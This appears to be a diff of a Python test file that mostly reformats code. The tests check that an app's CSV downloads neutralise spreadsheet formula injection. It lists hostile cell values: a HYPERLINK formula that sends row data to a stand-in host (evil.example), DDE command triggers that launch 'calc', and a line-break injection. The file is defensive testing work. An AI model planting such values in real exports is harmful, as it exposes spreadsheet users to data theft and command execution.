@@ -17,11 +17,20 @@ from lib.evidence import CountyEvidence
 from lib.layers import build_layers
 
 PROJECT_ROOT = Path(__file__).resolve().parent.parent
-PAGE_CODE = [PROJECT_ROOT / "app.py", *sorted((PROJECT_ROOT / "app_pages").glob("*.py")),
-             *sorted((PROJECT_ROOT / "lib").rglob("*.py"))]
+PAGE_CODE = [
+    PROJECT_ROOT / "app.py",
+    *sorted((PROJECT_ROOT / "app_pages").glob("*.py")),
+    *sorted((PROJECT_ROOT / "lib").rglob("*.py")),
+]
 # What a spreadsheet could run: a link that sends the row away, a command, and every other formula trigger.
-FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1, "Sheriff")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
-            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?"&A1, "Sheriff")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+]
 # A line break inside a name: unquoted, it would start a new row whose first cell is a formula.
 BROKEN_LINE = "Sheriff\r=1+1\n@SUM(1+1)"
 HOSTILE_NAMES = [*FORMULAS, BROKEN_LINE]
@@ -39,17 +48,19 @@ def county_table_csv(data) -> bytes:
 
 
 def state_laws_csv(data) -> bytes:
-    laws = data.state_laws.assign(law_name=hostile(data.state_laws["law_name"]), quote=hostile(data.state_laws["quote"]))
+    laws = data.state_laws.assign(
+        law_name=hostile(data.state_laws["law_name"]), quote=hostile(data.state_laws["quote"])
+    )
     return exports.state_laws_csv(dataclasses.replace(data, state_laws=laws))
 
 
 def changes_csv(data) -> str:
-    agreements = data.agreement_history.assign(agency=hostile(data.agreement_history["agency"]),
-                                               earlier_names=hostile(data.agreement_history["agency"]))
+    agreements = data.agreement_history.assign(
+        agency=hostile(data.agreement_history["agency"]), earlier_names=hostile(data.agreement_history["agency"])
+    )
     dates = history.snapshot_dates(data.snapshot_counts)
     changes = history.changes_between(agreements, dates[0], dates[-1])
-    return history.changes_csv(changes, data.counties.assign(name=hostile(data.counties["name"])),
-                               data.snapshot_counts)
+    return history.changes_csv(changes, data.counties.assign(name=hostile(data.counties["name"])), data.snapshot_counts)
 
 
 # Each producer of a CSV download, as the download button calls it, with the hostile data it is tested on.
@@ -82,8 +93,12 @@ def csv_downloads() -> list[tuple[str, str]]:
     found = []
     for path in PAGE_CODE:
         for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
-            if (isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute)
-                    and node.func.attr == "download_button" and is_csv(node)):
+            if (
+                isinstance(node, ast.Call)
+                and isinstance(node.func, ast.Attribute)
+                and node.func.attr == "download_button"
+                and is_csv(node)
+            ):
                 found.append((f"{path.relative_to(PROJECT_ROOT)}:{node.lineno}", producer(node)))
     return found
 
